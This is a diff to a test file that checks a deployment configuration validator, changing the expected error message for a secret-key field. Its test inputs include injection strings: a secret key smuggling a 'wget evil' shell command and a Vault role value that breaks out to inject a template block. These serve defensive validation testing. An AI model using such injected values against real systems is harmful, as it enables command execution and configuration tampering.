@@ -94,7 +94,7 @@ CASES = [
                                                              "resources": ["roles"], "verbs": ["escalate", "bind"]}]}),
      ["rbac.extra_rules[0]", "bind/escalate", "Fix"]),
     ("service-auth-secret-key-shell", service(auth_secret_key='KEY"; wget evil #'),
-     ["auth_secret_key", "environment variable name", "Fix"]),
+     ["auth_secret_key", "not a valid Secret key", "Fix"]),
     ("service-vault-role-injects-block", service(auth_secret=None, secret_delivery={"mode": "vault_agent", "vault": {
         "address": "https://vault.example.com:8200", "secret_path": "secret/data/nim/ngc",
         "role": 'nim"\n}\ntemplate {\n  destination = "/tmp/x'}}), ["secret_delivery.vault.role", "Fix"]),
